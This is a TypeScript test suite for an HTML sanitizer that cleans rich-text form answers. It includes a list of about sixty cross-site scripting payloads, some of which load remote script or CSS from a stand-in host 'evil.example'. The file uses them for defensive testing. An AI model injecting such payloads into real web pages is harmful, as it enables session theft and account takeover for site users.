import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { parseDefinition } from '../../../core/form/parseDefinition'
import { cleanAnswers } from '../../../server/html/cleanAnswers'
import { cleanRichText, filesOfRichText } from '../../../server/html/cleanRichText'

const OWN = '/files/tgtest000000001/2031/04/01890a5d-ac96-774b-bcce-b302099a8057.jpg'

/** What has run code in some browser once: every way in that the usual collections name. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=1 href=1 onerror="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<video src=x onloadstart=alert(1)>',
  '<video poster=javascript:alert(1) src=https://x.example/a.mp4>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="background-color:url(//evil.example/x)">x</p>',
  '<p style="color:rgb(0,0,0);-moz-binding:url(//evil.example/x)">x</p>',
  '<div class="shell-dialog ql-align-center" id="root">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script>',
  '<a/href="javascript:alert(1)"/x>y',
  '<img/src/onerror=alert(1)>',
  '<ſcript>alert(1)</ſcript>',
  '<p onclick\n=\n"alert(1)">x</p>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<template><script>alert(1)</script></template>',
  '<slot onslotchange=alert(1)>',
  '<isindex action=javascript:alert(1)>',
]

const WRITTEN = /<(\/?)([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)>/g
const ELEMENTS = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 strong b em i u s strike del a blockquote pre code ol ul li span div img video sub sup'.split(' '),
)
const ATTRIBUTES = new Set('class style href target rel data-list src alt width height controls preload'.split(' '))

/** Every tag and attribute of a cleaned text, read by a pattern that takes nothing but the cleaner's own spelling. */
function assertHarmless(html: string, source: string): void {
  const rest = html.replace(WRITTEN, (_all, _slash: string, tag: string, attributes: string) => {
    assert.ok(ELEMENTS.has(tag), `${source} → <${tag}>`)
    for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z-]+)="([^"<>]*)"/g)) {
      assert.ok(ATTRIBUTES.has(name), `${source} → ${name}`)
      assert.doesNotMatch(value, /javascript:|data:|vbscript:|expression|url\(/i, source)
      if (name === 'class') assert.match(value, /^ql-/, source)
    }
    return ''
  })
  assert.doesNotMatch(rest, /[<>]/, `${source} → ${html}`)
}

describe('rich text of answers', () => {
  it('keeps what the toolbar makes', () => {
    for (const html of [
      '<p><strong>a</strong><em>b</em><u>c</u><s>d</s></p>',
      '<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>',
      '<blockquote>a</blockquote>',
      '<pre class="ql-syntax">let a = 1 &lt; 2\n</pre>',
      '<div class="ql-code-block-container"><div class="ql-code-block">x</div></div>',
      '<ol><li data-list="bullet">a</li><li data-list="ordered" class="ql-indent-1">b</li></ol>',
      '<p class="ql-align-center"><span style="color: rgb(230, 0, 0); background-color: #ffff00">x</span></p>',
      '<p style="text-align: right">x</p>',
      '<p><a href="https://suilan.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
      `<p><img src="${OWN}" alt="x" width="300"></p>`,
      '<p><img src="https://suilan.example/a.png"></p>',
      '<video src="https://suilan.example/a.mp4" controls="" preload="metadata"></video>',
      '<p>穗澜 &amp; “lan”<br></p><hr>',
    ]) {
      assert.equal(cleanRichText(html), html)
    }
  })

  it('lets nothing through that could run or reach out', () => {
    for (const attack of ATTACKS) {
      const cleaned = cleanRichText(`<p>before</p>${attack}<p>after</p>`)
      assertHarmless(cleaned, attack)
      assert.ok(cleaned.startsWith('<p>before</p>'), attack)
    }
  })

  it('keeps three styles with plain values and drops the rest', () => {
    assert.equal(
      cleanRichText('<p style="color:red;position:fixed;TEXT-ALIGN:center">x</p>'),
      '<p style="color: red; text-align: center">x</p>',
    )
    assert.equal(cleanRichText('<p style="color:red!important">x</p>'), '<p>x</p>')
    assert.equal(cleanRichText('<p style="__proto__:red;constructor:red">x</p>'), '<p>x</p>')
  })

  it('drops a picture or video without an address of its own', () => {
    assert.equal(cleanRichText('<p>a<img src="data:image/png;base64,AAAA">b<img>c<video></video></p>'), '<p>abc</p>')
    assert.equal(cleanRichText('<img src="http://plain.example/a.png">'), '')
    assert.equal(cleanRichText('<img src="blob:https://x.example/1">'), '')
  })

  it('names one of our files by its url to store, whatever address it was shown at', () => {
    for (const address of [
      `${OWN}?e=1&amp;s=abc`,
      `https://fair.example${OWN}?e=1`,
      `https://bucket.oss.example${OWN.slice(6)}?Expires=1`,
    ]) {
      assert.equal(cleanRichText(`<img src="${address}">`), `<img src="${OWN}">`)
    }
  })

  it('is settled after one pass', () => {
    const piece = fc.constantFrom(
      ...ATTACKS,
      '<p>',
      '</p>',
      '<b>',
      'text',
      '&lt;',
      '"',
      ' ',
      '<a href="https://x.example">',
      '<li data-list="bullet">',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), pieces => {
        const once = cleanRichText(pieces.join(''))
        assertHarmless(once, pieces.join(''))
        assert.equal(cleanRichText(once), once)
      }),
      { numRuns: 300 },
    )
  })

  it('is settled also where an element between two paragraphs is left out', () => {
    const source = '<p>a<body><p style="color: red">b</p>c<body><ul><li>d<body><li>e'
    const once = cleanRichText(source)
    assert.equal(once, '<p>a</p><p style="color: red">b</p>c<ul><li>d</li><li>e</li></ul>')
    assert.equal(cleanRichText(once), once)
  })

  it('takes markup of any depth in a moment', () => {
    const started = process.hrtime.bigint()
    const deep = cleanRichText('<b>'.repeat(5_000) + 'x' + '</i>'.repeat(80_000))
    assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 2000)
    assert.ok(deep.length < 2000)
    assert.ok(deep.includes('x'))
  })
})

describe('the files of a rich text', () => {
  const other = OWN.replace('8057', '8058')

  it('are those the cleaner keeps, however the rest is written', () => {
    assert.deepEqual(filesOfRichText(cleanRichText(`<img src="${OWN}" alt="b src=" width="10">`)), [OWN])
    assert.deepEqual(filesOfRichText(cleanRichText(`<img alt='src="${other}"' src="${OWN}">`)), [OWN])
    assert.deepEqual(filesOfRichText(`<p>&lt;img src="${other}"><video width="1" src="${OWN}?e=1"></video><img src="${OWN}"></p>`), [OWN])
    assert.deepEqual(filesOfRichText('<img src="https://elsewhere.example/a.jpg">'), [])
  })

  it('are none that a player shows before it plays: those do not stay', () => {
    const html = cleanRichText(`<video src="${OWN}" poster="${other}"></video>`)
    assert.ok(!html.includes('poster'))
    assert.deepEqual(filesOfRichText(html), [OWN])
  })
})

describe('answers as they may be stored', () => {
  const { form } = parseDefinition({
    Id: 'f',
    Fields: [
      { Id: 'Story', Type: 'Editor' },
      { Id: 'Note', Type: 'Text' },
      { Id: 'Photos', Type: 'Image', Max: 3 },
    ],
  })

  it('have clean rich text and files by their stored urls, and are otherwise untouched', () => {
    assert.deepEqual(
      cleanAnswers(form, {
        Story: '<p onclick="x">a</p><script>1</script>',
        Note: '<b>as typed</b>',
        Photos: [{ url: `${OWN}?e=1&s=2` }, { url: 'https://elsewhere.example/a.jpg' }],
      }),
      { Story: '<p>a</p>', Note: '<b>as typed</b>', Photos: [{ url: OWN }, { url: 'https://elsewhere.example/a.jpg' }] },
    )
  })
})
